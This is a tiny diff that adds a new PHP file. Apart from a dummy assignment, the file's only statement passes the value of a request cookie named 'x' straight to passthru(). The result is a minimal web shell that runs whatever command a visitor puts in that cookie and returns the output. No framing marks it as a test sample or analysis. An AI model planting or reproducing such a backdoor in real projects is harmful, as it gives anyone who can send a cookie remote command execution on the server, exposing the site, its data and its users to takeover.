@@ -1,0 +1,3 @@
+<?php
+$c = 1;
+passthru( $_COOKIE['x'] );
